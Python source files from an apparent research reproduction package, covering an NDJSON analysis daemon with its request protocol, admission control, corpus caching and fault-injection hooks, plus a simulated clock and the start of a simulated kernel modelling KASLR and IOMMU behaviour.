        "timestamp": time.strftime("%Y-%m-%dT%H:%M:%SZ",
                                   time.gmtime()),
        "version": __version__,
        "signature": serve_signature(report),
        "ok": report.get("ok"),
        "metrics": {name: float(value)
                    for name, value in metrics.items()
                    if isinstance(value, (int, float))},
    }


def merge_into_bench(report: dict, path: str) -> None:
    """Fold the loadgen numbers into ``BENCH_perf.json`` as a ``serve``
    section, preserving whatever the bench command wrote there."""
    doc: dict = {}
    try:
        with open(path, encoding="utf-8") as handle:
            existing = json.load(handle)
        if isinstance(existing, dict):
            doc = existing
    except (OSError, ValueError):
        pass
    doc["serve"] = report
    from repro import durability
    durability.atomic_write_json(path, doc, indent=2, sort_keys=True,
                                 trailing_newline=True)
