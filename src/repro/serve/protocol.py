"""Wire protocol for ``repro-dma serve``: newline-delimited JSON.

One request per line, one response line per request.  Pipelining is
allowed (a client may write many lines before reading) and responses
may complete out of order across workers, so requests carry an ``id``
the response echoes.  Both sides emit *canonical* JSON -- sorted keys, no
whitespace -- so a response is a deterministic function of the request
and the code version: the differential invariant ("the server answers
byte-identically to the one-shot CLI") is checked by comparing bytes,
not parsed structures.

Responses deliberately carry **no wall-clock fields**.  Latency lives
in the serve metrics subsystem and in the load generator's histogram,
never in the payload, because a timestamp would break byte-identity
between repeated requests.

Request documents::

    {"type": "ping", "id": 1}
    {"type": "analyze", "corpus_seed": 2021, "scale": 0.25}
    {"type": "replay", "seed": 3, "scale": 0.1, "mutations": 3}
    {"type": "replay", "seed": 3, "backend": "arm-smmuv3"}
    {"type": "chaos", "workload": "storage", "plan_seed": 7}

``analyze`` and ``replay`` accept an optional ``backend`` field naming
an IOMMU backend model (see :mod:`repro.backends`).  An unknown name
is a protocol error -- the same registry error the CLI's ``--backend``
exit-2 path raises.  Replay threads it into the dynamic replay; for
analyze it is validated then dropped (SPADE is static -- findings
cannot depend on the IOMMU model), so backend-annotated analyze
requests still coalesce with plain ones.  The default backend
(``intel-vtd``, or the daemon's ``--backend``) normalizes to *no*
field at all, keeping pre-backend requests byte-identical.

Every request is validated and *normalized* (defaults filled in) before
it reaches a worker, so two logically identical requests coalesce to
the same batch key even when one spelled out the defaults.
"""

from __future__ import annotations

import hashlib
import json

from repro.errors import ServeError

PROTOCOL_SCHEMA = 1

#: a request line longer than this is a protocol error, not a request
MAX_LINE_BYTES = 4 << 20

REQUEST_TYPES = ("ping", "analyze", "replay", "chaos")

#: chaos requests run one phase-A workload each; ringflood is excluded
#: because its replica-profiling boots make a single request unbounded
CHAOS_WORKLOADS = ("compile-ping", "storage")

STATUS_OK = "ok"
STATUS_ERROR = "error"
#: admission control turned the request away (queue full) -- the
#: NDJSON analogue of HTTP 429; the client may retry
STATUS_REJECTED = "rejected"
#: an injected ``serve.request_abort`` fault killed the request after
#: admission; the client may retry
STATUS_ABORTED = "aborted"

RETRYABLE_STATUSES = (STATUS_REJECTED, STATUS_ABORTED)


def canonical_json(doc) -> str:
    """The one true serialization: sorted keys, no whitespace."""
    return json.dumps(doc, sort_keys=True, separators=(",", ":"))


def encode_line(doc: dict) -> bytes:
    return canonical_json(doc).encode("utf-8") + b"\n"


def payload_digest(doc) -> str:
    """Hex SHA-256 of the canonical serialization of *doc*."""
    return hashlib.sha256(canonical_json(doc).encode("utf-8")).hexdigest()


def _require(doc: dict, field: str, kinds, default=None, *,
             positive: bool = False):
    value = doc.get(field, default)
    if value is None:
        raise ServeError(f"request field {field!r} is required")
    if kinds is float and isinstance(value, int) \
            and not isinstance(value, bool):
        value = float(value)
    if not isinstance(value, kinds) or isinstance(value, bool):
        raise ServeError(f"request field {field!r}: expected "
                         f"{getattr(kinds, '__name__', kinds)}, "
                         f"got {value!r}")
    if positive and value <= 0:
        raise ServeError(f"request field {field!r} must be > 0, "
                         f"got {value!r}")
    return value


def parse_request(line: bytes, *,
                  default_backend: str | None = None) -> dict:
    """Decode and validate one request line into a normalized dict.

    Raises :class:`~repro.errors.ServeError` on anything malformed;
    the server turns that into a ``status: error`` response without
    admitting the request.  *default_backend* is the daemon-wide
    IOMMU model replay requests fall back to when they carry no
    ``backend`` field of their own.
    """
    if len(line) > MAX_LINE_BYTES:
        raise ServeError(f"request line exceeds {MAX_LINE_BYTES} bytes")
    try:
        doc = json.loads(line.decode("utf-8"))
    except (ValueError, UnicodeDecodeError) as exc:
        raise ServeError(f"request is not valid JSON: {exc}") from None
    if not isinstance(doc, dict):
        raise ServeError("request must be a JSON object")
    return normalize_request(doc, default_backend=default_backend)


def _normalize_backend(doc: dict,
                       default_backend: str | None) -> str | None:
    """Validate the optional ``backend`` field; returns the effective
    *non-default* backend name, else None (so default-backend requests
    normalize to no field at all and stay byte-identical to
    pre-backend ones)."""
    from repro import backends
    from repro.errors import BackendError

    value = doc.get("backend", default_backend)
    if value is None:
        return None
    if not isinstance(value, str):
        raise ServeError(f"request field 'backend': expected str, "
                         f"got {value!r}")
    try:
        return backends.backend_label(value)
    except BackendError as exc:
        raise ServeError(str(exc)) from None


def normalize_request(doc: dict, *,
                      default_backend: str | None = None) -> dict:
    rtype = doc.get("type")
    if rtype not in REQUEST_TYPES:
        raise ServeError(f"unknown request type {rtype!r} "
                         f"(expected one of {REQUEST_TYPES})")
    request: dict = {"type": rtype}
    request_id = doc.get("id")
    if request_id is not None:
        if not isinstance(request_id, (int, str)) \
                or isinstance(request_id, bool):
            raise ServeError(f"request id must be int or str, "
                             f"got {request_id!r}")
        request["id"] = request_id
    if rtype == "ping":
        request["sleep_ms"] = _require(doc, "sleep_ms", float, 0.0)
    elif rtype == "analyze":
        request["corpus_seed"] = _require(doc, "corpus_seed", int, 2021)
        request["scale"] = _require(doc, "scale", float, 1.0,
                                    positive=True)
        include = doc.get("include_findings", True)
        if not isinstance(include, bool):
            raise ServeError("request field 'include_findings' "
                             "must be a bool")
        request["include_findings"] = include
        # validated then dropped: SPADE findings are backend-independent
        _normalize_backend(doc, default_backend)
    elif rtype == "replay":
        request["seed"] = _require(doc, "seed", int)
        request["base_seed"] = _require(doc, "base_seed", int, 2021)
        request["mutations"] = _require(doc, "mutations", int, 6,
                                        positive=True)
        request["scale"] = _require(doc, "scale", float, 1.0,
                                    positive=True)
        request["phys_mb"] = _require(doc, "phys_mb", int, 256,
                                      positive=True)
        backend = _normalize_backend(doc, default_backend)
        if backend is not None:
            request["backend"] = backend
    else:  # chaos
        workload = doc.get("workload", "compile-ping")
        if workload not in CHAOS_WORKLOADS:
            raise ServeError(f"unknown chaos workload {workload!r} "
                             f"(expected one of {CHAOS_WORKLOADS})")
        request["workload"] = workload
        plan = doc.get("plan")
        if plan is not None and not isinstance(plan, dict):
            raise ServeError("request field 'plan' must be a fault-spec "
                             "object")
        request["plan"] = plan
        request["plan_seed"] = _require(doc, "plan_seed", int, 0)
        request["stream"] = _require(doc, "stream", int, 0)
        request["seed"] = _require(doc, "seed", int, 5)
        request["rounds"] = _require(doc, "rounds", int, 40,
                                     positive=True)
        request["commands"] = _require(doc, "commands", int, 48,
                                       positive=True)
    return request


def batch_key(request: dict) -> str | None:
    """Coalescing key: identical in-flight computations share one run.

    Only ``analyze`` coalesces -- its result is a pure function of
    ``(corpus_seed, scale)`` and expensive enough to be worth sharing.
    Replay and chaos are cheap and stateful (fault plans count their
    own firings), so each admitted request computes alone.
    """
    if request["type"] != "analyze":
        return None
    return f"analyze:{request['corpus_seed']}:{request['scale']!r}"


def response_for(request: dict, body: dict, *,
                 status: str = STATUS_OK) -> dict:
    """Assemble a response doc: type/status/id envelope + *body*."""
    response = {"type": request.get("type", "unknown"),
                "status": status}
    if "id" in request:
        response["id"] = request["id"]
    response.update(body)
    return response


def error_response(request: dict | None, message: str, *,
                   status: str = STATUS_ERROR) -> dict:
    response = {"type": (request or {}).get("type", "unknown"),
                "status": status, "error": message}
    if request and "id" in request:
        response["id"] = request["id"]
    return response
