"""The ``repro-dma serve`` daemon: SPADE-as-a-service.

A long-lived analysis server over a Unix or TCP socket.  The process
pays the expensive setup once -- corpus generation, parse/index work,
interned layouts, the perfcache tiers -- and every later request rides
the warm state, which is what makes a served ``analyze`` an order of
magnitude faster than a cold one-shot CLI run.

Architecture::

    accept thread ──> per-connection reader threads
                          │  parse + validate (protocol errors answered
                          │  inline, never admitted)
                          ▼
                   bounded request queue  ── full? ──> "rejected"
                          │                             (429-style)
                          ▼
                   N worker threads ──> handlers ──> response line

Admission control is the bounded queue: when ``queue_bound`` requests
are already waiting, new work is *explicitly rejected* with a
retryable status instead of queueing without bound -- overload
degrades into fast, honest refusals, never into unbounded memory.

Per-request isolation: workers call
:func:`repro.metrics.reset_for_request` and
:func:`repro.trace.unbind_clock` after every request, so one request's
kernel never leaks into the next request's exports.  Shared *read-only*
state -- the corpus LRU, the perfcache tiers, interned layouts -- is
what makes warm serving fast; shared *mutable* singletons (the fault
engine) are guarded by an exclusive request lock: ``chaos`` requests
run alone, everything else shares.
"""

from __future__ import annotations

import os
import socket
import threading
from collections import OrderedDict
from dataclasses import dataclass, field
from queue import Empty, Full, Queue

from repro import faults, metrics, trace
from repro.errors import ServeError
from repro.metrics.registry import Histogram
from repro.serve import handlers
from repro.serve.protocol import (STATUS_ABORTED, STATUS_REJECTED,
                                  batch_key, encode_line, error_response,
                                  parse_request, response_for)

DEFAULT_WORKERS = 2
DEFAULT_QUEUE_BOUND = 16
DEFAULT_MEMORY_BUDGET_MIB = 64


def _env_int(environ, name: str, default: int) -> int:
    raw = environ.get(name)
    if raw is None:
        return default
    try:
        value = int(raw)
    except ValueError:
        raise ServeError(f"{name}={raw!r}: not an integer")
    if value <= 0:
        raise ServeError(f"{name} must be > 0, got {value}")
    return value


@dataclass
class ServeConfig:
    """Daemon knobs; every one has a ``REPRO_SERVE_*`` env override."""

    socket_path: str | None = None
    host: str | None = None
    port: int = 0
    workers: int = DEFAULT_WORKERS
    queue_bound: int = DEFAULT_QUEUE_BOUND
    memory_budget_bytes: int = DEFAULT_MEMORY_BUDGET_MIB << 20
    #: honor ``ping.sleep_ms`` -- load tests only, never production
    allow_debug_sleep: bool = False
    #: install a process-wide metrics registry when none is active
    #: (tests hosting a daemon next to their own sessions turn it off)
    install_metrics: bool = True
    #: pre-run one analyze at this scale before accepting connections
    warmup_scale: float | None = None
    warmup_corpus_seed: int = 2021
    #: IOMMU backend model replay requests fall back to when they
    #: carry no ``backend`` field; ``None`` means the registry default
    default_backend: str | None = None

    @classmethod
    def from_env(cls, environ=None, **overrides) -> "ServeConfig":
        environ = os.environ if environ is None else environ
        config = cls(
            socket_path=environ.get("REPRO_SERVE_SOCKET"),
            workers=_env_int(environ, "REPRO_SERVE_WORKERS",
                             DEFAULT_WORKERS),
            queue_bound=_env_int(environ, "REPRO_SERVE_QUEUE",
                                 DEFAULT_QUEUE_BOUND),
            memory_budget_bytes=_env_int(
                environ, "REPRO_SERVE_MEM_BUDGET",
                DEFAULT_MEMORY_BUDGET_MIB) << 20,
            default_backend=environ.get("REPRO_SERVE_BACKEND"),
        )
        for name, value in overrides.items():
            if value is not None:
                setattr(config, name, value)
        if config.default_backend is not None:
            from repro import backends
            from repro.errors import BackendError
            try:
                config.default_backend = backends.get_backend(
                    config.default_backend).name
            except BackendError as exc:
                raise ServeError(str(exc)) from None
        return config


class ServeStats:
    """Cumulative daemon counters + per-type latency histograms.

    Updated under one lock (requests are milliseconds-long; the lock
    is not contended at realistic request rates) and mirrored into the
    ``serve`` metrics subsystem, which survives
    :func:`~repro.metrics.reset_for_request` by design.
    """

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self.requests: dict[tuple[str, str], int] = {}
        self.connections = 0
        self.protocol_errors = 0
        self.rejected = 0
        self.aborted = 0
        self.accept_drops = 0
        self.batched = 0
        self.inflight = 0
        self.corpus_hits = 0
        self.corpus_misses = 0
        self.corpus_evictions = 0
        self.latency_ms: dict[str, Histogram] = {}

    def note_connection(self) -> None:
        with self._lock:
            self.connections += 1

    def note_protocol_error(self) -> None:
        with self._lock:
            self.protocol_errors += 1

    def note_accept_drop(self) -> None:
        with self._lock:
            self.accept_drops += 1
        metrics.count("serve", "accept_drops")

    def note_batched(self) -> None:
        with self._lock:
            self.batched += 1
        metrics.count("serve", "batched_requests")

    def begin_request(self) -> None:
        with self._lock:
            self.inflight += 1

    def finish_request(self, rtype: str, status: str,
                       latency_ms: float | None = None) -> None:
        with self._lock:
            self.inflight -= 1
            key = (rtype, status)
            self.requests[key] = self.requests.get(key, 0) + 1
            if status == STATUS_REJECTED:
                self.rejected += 1
            elif status == STATUS_ABORTED:
                self.aborted += 1
            if latency_ms is not None:
                histogram = self.latency_ms.get(rtype)
                if histogram is None:
                    histogram = self.latency_ms[rtype] = Histogram()
                histogram.observe(latency_ms)
        metrics.count("serve", "requests", type=rtype, status=status)
        if latency_ms is not None:
            metrics.observe("serve", "latency_ms", latency_ms,
                            type=rtype)

    def snapshot(self) -> dict:
        with self._lock:
            return {
                "requests": {f"{rtype}/{status}": count
                             for (rtype, status), count
                             in sorted(self.requests.items())},
                "connections": self.connections,
                "protocol_errors": self.protocol_errors,
                "rejected": self.rejected,
                "aborted": self.aborted,
                "accept_drops": self.accept_drops,
                "batched": self.batched,
                "inflight": self.inflight,
                "corpus_hits": self.corpus_hits,
                "corpus_misses": self.corpus_misses,
                "corpus_evictions": self.corpus_evictions,
                "latency_ms": {rtype: histogram.to_json()
                               for rtype, histogram
                               in sorted(self.latency_ms.items())},
            }


class _Flight:
    """One in-flight shared computation (single-flight coalescing)."""

    __slots__ = ("event", "value", "error")

    def __init__(self) -> None:
        self.event = threading.Event()
        self.value = None
        self.error: BaseException | None = None

    def resolve(self, value) -> None:
        self.value = value
        self.event.set()

    def reject(self, error: BaseException) -> None:
        self.error = error
        self.event.set()

    def result(self):
        self.event.wait()
        if self.error is not None:
            raise self.error
        return self.value


class CorpusLru:
    """Materialized corpora under a byte budget, LRU-evicted.

    A generated :class:`~repro.corpus.generate.SourceTree` at full
    scale is tens of megabytes of synthetic C; a daemon serving many
    ``(corpus_seed, scale)`` combinations must not keep them all.
    Entries are charged the sum of their file contents; when the
    budget is exceeded the least recently used corpora are dropped
    (the newest entry always survives, even alone over budget --
    evicting the corpus a request needs right now would livelock).
    Generation single-flights per key so a thundering herd of
    identical cold requests generates once.
    """

    def __init__(self, budget_bytes: int, stats: ServeStats) -> None:
        self._budget = budget_bytes
        self._stats = stats
        self._lock = threading.Lock()
        self._entries: "OrderedDict[tuple, tuple]" = OrderedDict()
        self._bytes = 0
        self._flights: dict[tuple, _Flight] = {}

    @property
    def total_bytes(self) -> int:
        with self._lock:
            return self._bytes

    def __len__(self) -> int:
        with self._lock:
            return len(self._entries)

    def get(self, corpus_seed: int, scale: float):
        """``(tree, manifest)`` for the keyed corpus, generating once."""
        key = (corpus_seed, repr(scale))
        with self._lock:
            entry = self._entries.get(key)
            if entry is not None:
                self._entries.move_to_end(key)
                with self._stats._lock:
                    self._stats.corpus_hits += 1
                return entry[0], entry[1]
            flight = self._flights.get(key)
            leader = flight is None
            if leader:
                flight = self._flights[key] = _Flight()
        if not leader:
            return flight.result()
        try:
            pair = self._generate(corpus_seed, scale)
            nbytes = sum(len(content)
                         for content in pair[0].files.values())
            with self._lock:
                self._entries[key] = (*pair, nbytes)
                self._bytes += nbytes
                with self._stats._lock:
                    self._stats.corpus_misses += 1
                while self._bytes > self._budget \
                        and len(self._entries) > 1:
                    _, (_t, _m, dropped) = self._entries.popitem(
                        last=False)
                    self._bytes -= dropped
                    with self._stats._lock:
                        self._stats.corpus_evictions += 1
            flight.resolve(pair)
            return pair
        except BaseException as exc:
            flight.reject(exc)
            raise
        finally:
            with self._lock:
                self._flights.pop(key, None)

    @staticmethod
    def _generate(corpus_seed: int, scale: float):
        from repro.corpus import CorpusGenerator
        from repro.corpus.linux50 import scaled_composition
        if scale == 1.0:
            return CorpusGenerator(seed=corpus_seed).generate()
        return CorpusGenerator(
            seed=corpus_seed,
            composition=scaled_composition(scale)).generate()


class _RwLock:
    """Reader-writer lock with writer preference.

    ``analyze``/``replay``/``ping`` requests hold it shared; ``chaos``
    holds it exclusive because the fault engine is a process-global
    singleton (``faults.session`` swaps the active plan) and its fire
    counters are per-plan, not per-thread.  Writer preference keeps a
    queued chaos request from starving behind a steady analyze stream.
    """

    def __init__(self) -> None:
        self._cond = threading.Condition()
        self._readers = 0
        self._writer = False
        self._waiting_writers = 0

    def acquire_shared(self) -> None:
        with self._cond:
            while self._writer or self._waiting_writers:
                self._cond.wait()
            self._readers += 1

    def release_shared(self) -> None:
        with self._cond:
            self._readers -= 1
            if not self._readers:
                self._cond.notify_all()

    def acquire_exclusive(self) -> None:
        with self._cond:
            self._waiting_writers += 1
            try:
                while self._writer or self._readers:
                    self._cond.wait()
            finally:
                self._waiting_writers -= 1
            self._writer = True

    def release_exclusive(self) -> None:
        with self._cond:
            self._writer = False
            self._cond.notify_all()


def serve_collector(server: "AnalysisServer"):
    """Pull-model collector publishing daemon state under ``serve``."""

    def collect(registry) -> None:
        stats = server.stats
        registry.gauge("serve", "queue_depth").set(server.queue_depth)
        with stats._lock:
            registry.gauge("serve", "inflight").set(stats.inflight)
            registry.counter("serve", "connections").set(
                stats.connections)
            registry.counter("serve", "protocol_errors").set(
                stats.protocol_errors)
            registry.counter("serve", "rejected").set(stats.rejected)
            hits, misses = stats.corpus_hits, stats.corpus_misses
            registry.counter("serve", "corpus_hits").set(hits)
            registry.counter("serve", "corpus_misses").set(misses)
            registry.counter("serve", "corpus_evictions").set(
                stats.corpus_evictions)
            registry.gauge("serve", "cache_hit_ratio").set(
                round(hits / (hits + misses), 4) if hits + misses
                else 0.0)
        registry.gauge("serve", "corpus_bytes").set(
            server.corpora.total_bytes)
        registry.gauge("serve", "corpus_entries").set(
            len(server.corpora))

    return collect


@dataclass(eq=False)
class _Connection:
    sock: socket.socket
    write_lock: threading.Lock = field(default_factory=threading.Lock)

    def send(self, doc: dict) -> None:
        data = encode_line(doc)
        with self.write_lock:
            self.sock.sendall(data)


_STOP = object()


class AnalysisServer:
    """The daemon: accept loop, reader threads, bounded worker pool."""

    def __init__(self, config: ServeConfig | None = None) -> None:
        self.config = config or ServeConfig()
        self.stats = ServeStats()
        self.corpora = CorpusLru(self.config.memory_budget_bytes,
                                 self.stats)
        self._queue: Queue = Queue(maxsize=self.config.queue_bound)
        self._flights: dict[str, _Flight] = {}
        self._flights_lock = threading.Lock()
        self._request_lock = _RwLock()
        self._stop = threading.Event()
        self._threads: list[threading.Thread] = []
        self._connections: set = set()
        self._connections_lock = threading.Lock()
        self._listener: socket.socket | None = None
        self._installed_registry = None
        self.address: tuple[str, int] | str | None = None

    # -- lifecycle -------------------------------------------------------

    def start(self):
        """Bind, warm up, and begin serving; returns the bound address
        (a path for Unix sockets, ``(host, port)`` for TCP)."""
        if self._listener is not None:
            raise ServeError("server already started")
        if self.config.install_metrics and metrics.active() is None \
                and metrics.enabled_in_env():
            self._installed_registry = metrics.install()
        registry = metrics.active() if self.config.install_metrics \
            else None
        if registry is not None:
            registry.register_collector(serve_collector(self),
                                        slot="serve")
        self._listener = self._bind()
        if self.config.warmup_scale:
            pair = self.corpora.get(self.config.warmup_corpus_seed,
                                    self.config.warmup_scale)
            handlers.analyze_corpus(*pair)
        for index in range(self.config.workers):
            self._spawn(self._worker, f"serve-worker-{index}")
        self._spawn(self._accept_loop, "serve-accept")
        return self.address

    def _bind(self) -> socket.socket:
        config = self.config
        if config.socket_path:
            if os.path.exists(config.socket_path):
                os.unlink(config.socket_path)
            listener = socket.socket(socket.AF_UNIX,
                                     socket.SOCK_STREAM)
            listener.bind(config.socket_path)
            self.address = config.socket_path
        else:
            listener = socket.socket(socket.AF_INET,
                                     socket.SOCK_STREAM)
            listener.setsockopt(socket.SOL_SOCKET,
                                socket.SO_REUSEADDR, 1)
            listener.bind((config.host or "127.0.0.1", config.port))
            self.address = listener.getsockname()
        listener.listen(128)
        # closing a socket does not reliably wake a thread blocked in
        # accept() on Linux; a poll timeout bounds shutdown latency
        listener.settimeout(0.5)
        return listener

    def _spawn(self, target, name: str) -> None:
        thread = threading.Thread(target=target, name=name, daemon=True)
        thread.start()
        self._threads.append(thread)

    def request_shutdown(self) -> None:
        """Signal-safe: ask the daemon to drain and stop."""
        self._stop.set()
        listener = self._listener
        if listener is not None:
            try:
                listener.close()
            except OSError:
                pass

    def wait(self, timeout: float | None = None) -> bool:
        return self._stop.wait(timeout)

    def stop(self) -> None:
        """Drain the queue, join every thread, release the socket."""
        self.request_shutdown()
        for _ in range(self.config.workers):
            self._queue.put(_STOP)
        with self._connections_lock:
            doomed = list(self._connections)
        for connection in doomed:
            try:
                connection.sock.shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
            try:
                connection.sock.close()
            except OSError:
                pass
        for thread in self._threads:
            thread.join(timeout=10)
        self._threads.clear()
        if isinstance(self.address, str):
            try:
                os.unlink(self.address)
            except OSError:
                pass
        self._listener = None
        registry = metrics.active() if self.config.install_metrics \
            else None
        if registry is not None:
            registry.unregister_collector("serve")
        if self._installed_registry is not None \
                and metrics.active() is self._installed_registry:
            metrics.uninstall()
            self._installed_registry = None

    def __enter__(self) -> "AnalysisServer":
        self.start()
        return self

    def __exit__(self, exc_type, exc, tb) -> None:
        self.stop()

    @property
    def queue_depth(self) -> int:
        return self._queue.qsize()

    # -- accept / read ---------------------------------------------------

    def _accept_loop(self) -> None:
        listener = self._listener
        while not self._stop.is_set():
            try:
                sock, _addr = listener.accept()
            except TimeoutError:
                continue  # poll tick: re-check the stop flag
            except OSError:
                break  # listener closed by shutdown
            if "serve.accept_drop" in faults.active_sites \
                    and faults.fires("serve.accept_drop"):
                # chaos weather: the daemon pretends the connection
                # never happened; a well-behaved client reconnects
                self.stats.note_accept_drop()
                try:
                    sock.close()
                except OSError:
                    pass
                continue
            connection = _Connection(sock)
            self.stats.note_connection()
            with self._connections_lock:
                self._connections.add(connection)
            thread = threading.Thread(
                target=self._read_loop, args=(connection,),
                name="serve-conn", daemon=True)
            thread.start()

    def _read_loop(self, connection: _Connection) -> None:
        try:
            reader = connection.sock.makefile("rb")
            for line in reader:
                if self._stop.is_set():
                    break
                line = line.strip()
                if not line:
                    continue
                self._admit(connection, line)
        except (OSError, ValueError):
            pass  # peer went away mid-read
        finally:
            with self._connections_lock:
                self._connections.discard(connection)
            try:
                connection.sock.close()
            except OSError:
                pass

    def _admit(self, connection: _Connection, line: bytes) -> None:
        """Validate, then apply admission control (bounded queue)."""
        try:
            request = parse_request(
                line, default_backend=self.config.default_backend)
        except ServeError as exc:
            self.stats.note_protocol_error()
            metrics.count("serve", "protocol_errors")
            self._respond(connection, error_response(None, str(exc)))
            return
        try:
            self._queue.put_nowait((connection, request))
        except Full:
            self.stats.begin_request()
            self.stats.finish_request(request["type"], STATUS_REJECTED)
            self._respond(connection, error_response(
                request, f"queue full "
                         f"({self.config.queue_bound} waiting); "
                         f"retry later", status=STATUS_REJECTED))

    def _respond(self, connection: _Connection, doc: dict) -> None:
        try:
            connection.send(doc)
        except OSError:
            pass  # peer went away mid-write; nothing to tell it

    # -- execute ---------------------------------------------------------

    def _worker(self) -> None:
        while True:
            try:
                item = self._queue.get(timeout=0.5)
            except Empty:
                if self._stop.is_set():
                    return
                continue
            if item is _STOP:
                return
            connection, request = item
            self._execute(connection, request)

    def _execute(self, connection: _Connection, request: dict) -> None:
        import time
        rtype = request["type"]
        self.stats.begin_request()
        if "serve.request_abort" in faults.active_sites \
                and faults.fires("serve.request_abort"):
            self.stats.finish_request(rtype, STATUS_ABORTED)
            self._respond(connection, error_response(
                request, "request aborted by injected fault; retry",
                status=STATUS_ABORTED))
            return
        exclusive = rtype == "chaos"
        started = time.perf_counter()
        if exclusive:
            self._request_lock.acquire_exclusive()
        else:
            self._request_lock.acquire_shared()
        try:
            body = self._dispatch(request)
            response = response_for(request, body)
            status = "ok"
        except Exception as exc:
            response = error_response(request, f"{type(exc).__name__}: "
                                               f"{exc}")
            status = "error"
        finally:
            try:
                metrics.reset_for_request()
            except RuntimeError:
                pass  # racing a concurrent instrument insert
            trace.unbind_clock()
            if exclusive:
                self._request_lock.release_exclusive()
            else:
                self._request_lock.release_shared()
        latency_ms = (time.perf_counter() - started) * 1000.0
        self.stats.finish_request(rtype, status, latency_ms)
        self._respond(connection, response)

    def _dispatch(self, request: dict) -> dict:
        rtype = request["type"]
        if rtype == "ping":
            return handlers.handle_ping(
                request, allow_sleep=self.config.allow_debug_sleep)
        if rtype == "analyze":
            shared = self._coalesced_analyze(request)
            return handlers.handle_analyze(request, shared)
        if rtype == "replay":
            return handlers.handle_replay(request)
        return handlers.handle_chaos(request)

    def _coalesced_analyze(self, request: dict) -> dict:
        """Single-flight: identical concurrent analyzes compute once.

        This is the request-batching tier: a burst of requests for the
        same ``(corpus_seed, scale)`` admits each request (they all
        count, they all answer) but runs the expensive analysis once,
        with followers blocking on the leader's flight.
        """
        key = batch_key(request)
        with self._flights_lock:
            flight = self._flights.get(key)
            leader = flight is None
            if leader:
                flight = self._flights[key] = _Flight()
        if not leader:
            self.stats.note_batched()
            return flight.result()
        try:
            pair = self.corpora.get(request["corpus_seed"],
                                    request["scale"])
            shared = handlers.analyze_corpus(*pair)
            flight.resolve(shared)
            return shared
        except BaseException as exc:
            flight.reject(exc)
            raise
        finally:
            with self._flights_lock:
                self._flights.pop(key, None)
