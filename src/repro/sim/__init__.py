"""Simulation scaffolding: clock, deterministic RNG, kernel facade."""

from repro.sim.clock import SimClock
from repro.sim.rng import DeterministicRng

__all__ = ["SimClock", "DeterministicRng"]
