"""Simulated time base.

All substrates share one :class:`SimClock`. Time is measured in
microseconds (the natural unit for I/O completion latencies) and in CPU
cycles for fine-grained costs such as IOTLB invalidations. The paper's
quantities of interest -- the ~10 ms deferred-invalidation window, ~2000
cycle IOTLB invalidation, ~100 cycle TLB invalidation -- are expressed in
these units.

Timers registered on the clock fire in deadline order whenever time is
advanced past their deadline. The deferred-invalidation policy uses a
periodic timer exactly the way the Linux IOVA flush queue does.
"""

from __future__ import annotations

import heapq
import itertools
from dataclasses import dataclass, field
from typing import Callable

#: Simulated CPU frequency used to convert cycles to microseconds.
CYCLES_PER_US = 2_000  # a 2 GHz part


@dataclass(order=True)
class _Timer:
    deadline_us: float
    seq: int
    callback: Callable[[], None] = field(compare=False)
    period_us: float | None = field(compare=False, default=None)
    cancelled: bool = field(compare=False, default=False)


class TimerHandle:
    """Handle returned by :meth:`SimClock.call_at`; allows cancellation."""

    def __init__(self, timer: _Timer) -> None:
        self._timer = timer

    def cancel(self) -> None:
        self._timer.cancelled = True

    @property
    def cancelled(self) -> bool:
        return self._timer.cancelled


class SimClock:
    """Monotonic simulated clock with timers.

    >>> clock = SimClock()
    >>> fired = []
    >>> _ = clock.call_at(5.0, lambda: fired.append(clock.now_us))
    >>> clock.advance_us(10.0)
    >>> fired
    [5.0]
    """

    def __init__(self) -> None:
        self._now_us = 0.0
        self._cycles = 0
        self._timers: list[_Timer] = []
        self._seq = itertools.count()

    @property
    def now_us(self) -> float:
        """Current simulated time in microseconds."""
        return self._now_us

    @property
    def cycles(self) -> int:
        """Cycles explicitly charged via :meth:`charge_cycles`."""
        return self._cycles

    def charge_cycles(self, cycles: int) -> None:
        """Charge a CPU cost, advancing time by the equivalent duration."""
        if cycles < 0:
            raise ValueError(f"negative cycle charge: {cycles}")
        self._cycles += cycles
        self.advance_us(cycles / CYCLES_PER_US)

    def call_at(self, deadline_us: float,
                callback: Callable[[], None]) -> TimerHandle:
        """Schedule *callback* to run when time reaches *deadline_us*."""
        if deadline_us < self._now_us:
            raise ValueError(
                f"deadline {deadline_us} is in the past (now {self._now_us})")
        timer = _Timer(deadline_us, next(self._seq), callback)
        heapq.heappush(self._timers, timer)
        return TimerHandle(timer)

    def call_after(self, delay_us: float,
                   callback: Callable[[], None]) -> TimerHandle:
        """Schedule *callback* to run *delay_us* from now."""
        return self.call_at(self._now_us + delay_us, callback)

    def call_every(self, period_us: float,
                   callback: Callable[[], None]) -> TimerHandle:
        """Schedule *callback* periodically, first firing one period out."""
        if period_us <= 0:
            raise ValueError(f"non-positive period: {period_us}")
        timer = _Timer(self._now_us + period_us, next(self._seq), callback,
                       period_us=period_us)
        heapq.heappush(self._timers, timer)
        return TimerHandle(timer)

    def advance_us(self, delta_us: float) -> None:
        """Advance time, firing any timers whose deadline is crossed."""
        if delta_us < 0:
            raise ValueError(f"cannot rewind time by {delta_us}")
        target = self._now_us + delta_us
        while self._timers and self._timers[0].deadline_us <= target:
            timer = heapq.heappop(self._timers)
            if timer.cancelled:
                continue
            self._now_us = timer.deadline_us
            timer.callback()
            if timer.period_us is not None and not timer.cancelled:
                timer.deadline_us += timer.period_us
                heapq.heappush(self._timers, timer)
        self._now_us = target

    def advance_ms(self, delta_ms: float) -> None:
        """Convenience wrapper: advance time by *delta_ms* milliseconds."""
        self.advance_us(delta_ms * 1000.0)
