"""The simulated kernel: one boot of the victim machine.

Construction order mirrors a boot: physical memory, KASLR, allocators,
IOMMU + DMA API, the (per-build, boot-invariant) kernel image, the
executor, and finally the network substrate. A fresh :class:`Kernel`
per boot with the same ``seed`` but a different ``boot_index`` models
the paper's reboot experiments (section 5.3): KASLR re-randomizes every
boot while the *build* (gadget locations, symbol offsets) and the
near-deterministic allocation order persist.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

from repro import metrics, trace
from repro.cpu.exec import Executor
from repro.cpu.text import KernelImage
from repro.dma.api import DmaApi
from repro.iommu.iommu import Iommu
from repro.kaslr.randomize import randomize
from repro.kaslr.translate import AddressSpace
from repro.mem.accounting import NULL_SINK, AllocSite, MemEventSink
from repro.mem.buddy import BuddyAllocator
from repro.mem.page_frag import DEFAULT_CHUNK_ORDER, PageFragAllocator
